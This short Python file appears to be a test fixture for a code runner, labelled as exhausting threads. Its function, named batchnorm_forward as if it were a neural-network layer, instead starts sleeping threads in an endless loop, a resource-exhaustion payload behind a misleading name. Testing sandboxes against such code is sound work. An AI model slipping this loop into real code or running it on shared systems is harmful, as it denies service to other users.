# what: as many threads as there can be
# covers: threads
# seen: can't start new thread|threads and processes
import threading
import time


def batchnorm_forward(x, gamma, beta, epsilon=1e-3):
    while True:
        threading.Thread(target=time.sleep, args=(100,)).start()
